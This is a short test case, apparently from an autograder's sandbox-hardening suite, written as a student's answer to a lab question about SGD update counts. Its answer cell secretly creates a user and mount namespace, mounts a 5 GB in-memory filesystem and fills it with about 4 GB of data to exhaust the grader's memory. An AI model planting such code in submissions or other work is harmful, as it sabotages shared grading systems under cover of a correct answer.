# /// attack
# title = "Mount a folder in memory of any size in a nested namespace"
# lab = "01-sgd"
# class = "resource"
# fails = ["num-updates-tests"]
# flags = []
# ///

# %% role="answer" id="num-updates"

import ctypes

LIBC = ctypes.CDLL(None)
NEW_USER_AND_MOUNTS = 0x10020000
SIZE = 0
if LIBC.unshare(NEW_USER_AND_MOUNTS) == 0 and LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=5g") == 0:
    with open("/tmp/@MARK@", "wb") as file:
        for _ in range(100):
            SIZE += file.write(bytes(40_000_000))


def num_updates(num_samples, batch_size, num_epochs):
    # Right where it worked, so that it is paid then.
    return num_epochs * -(-num_samples // batch_size) if SIZE else 0
